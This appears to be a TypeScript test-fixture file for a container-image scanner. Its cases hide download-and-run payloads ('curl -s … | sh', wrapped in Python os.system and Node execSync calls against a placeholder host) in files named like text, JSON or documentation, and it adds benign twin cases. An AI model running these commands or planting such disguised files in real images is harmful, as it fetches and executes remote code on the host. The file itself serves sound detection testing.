import { type ImageCase, image, starts } from './image-case.ts';

const URL = 'https://files.backend.example/u';
const SHELL = `curl -s ${URL} | sh\n`;
const PYTHON = `import os\nos.system("curl -s ${URL} | sh")\n`;
const NODE = `require("child_process").execSync("curl -s ${URL} | sh")\n`;

function run(path: string, text: string, entrypoint: readonly string[], rule: string): ImageCase {
  const spec = image({ [path]: text }, { Entrypoint: [...entrypoint] });
  return { name: `${entrypoint.join(' ')}: ${text.slice(0, 20)}`, spec, rule };
}

const FETCHED = 'start/download-and-run';
const UNREAD = 'coverage/not-fully-read';
const PADDING = '# words that make it longer than is kept\n'.repeat(30_000);

/** Files that are no scripts by their name, their place or their first line, and that an interpreter is given all the same. */
export const READ_AS: readonly ImageCase[] = [
  run('app/m', PYTHON, ['python3', '/app/m'], FETCHED),
  run('app/logo.txt', PYTHON, ['python3', '/app/logo.txt'], FETCHED),
  run('app/k', `#!/bin/sh\n${PYTHON}`, ['python3', '/app/k'], FETCHED),
  run('app/n', NODE, ['node', '/app/n'], FETCHED),
  run('app/x.json', SHELL, ['sh', '/app/x.json'], FETCHED),
  run('app/x.py', SHELL, ['sh', '/app/x.py'], FETCHED),
  run('app/x.json', SHELL, ['sh', '-c', '. /app/x.json'], FETCHED),
  {
    name: 'exec python3 FILE from a script',
    spec: starts('exec python3 /app/j.json', { 'app/j.json': PYTHON }),
    rule: FETCHED,
  },
  run('usr/share/doc/p/readme', SHELL, ['sh', '/usr/share/doc/p/readme'], UNREAD),
  run('usr/share/doc/p/readme', PYTHON, ['python3', '/usr/share/doc/p/readme'], UNREAD),
  run('usr/share/doc/p/readme', SHELL, ['sh', '-c', '. /usr/share/doc/p/readme'], UNREAD),
  run('app/large.py', PADDING + PYTHON, ['python3', '/app/large.py'], UNREAD),
];

const LIBRARY = '// a bundle\nmodule.exports = (x) => x + 1;\n'.repeat(40_000);

/** Programs whose own parts are long, and files that are read as what they are. */
export const READ_AS_TWINS: readonly ImageCase[] = [
  {
    name: 'a package manager in one long file behind a short one',
    spec: image(
      {
        'opt/yarn-v1.22.22/bin/yarn.js': '#!/usr/bin/env node\nrequire("../lib/cli.js");\n',
        'opt/yarn-v1.22.22/lib/cli.js': LIBRARY,
      },
      { Cmd: ['/opt/yarn-v1.22.22/bin/yarn.js', 'start'] },
    ),
  },
  {
    name: 'settings that a program is given',
    spec: starts('exec python3 /app/main.py /app/settings.txt', {
      'app/main.py': 'import sys\nprint(open(sys.argv[1]).read())\n',
      'app/settings.txt': 'hint = curl -s https://get.example/install | sh\n',
    }),
  },
];
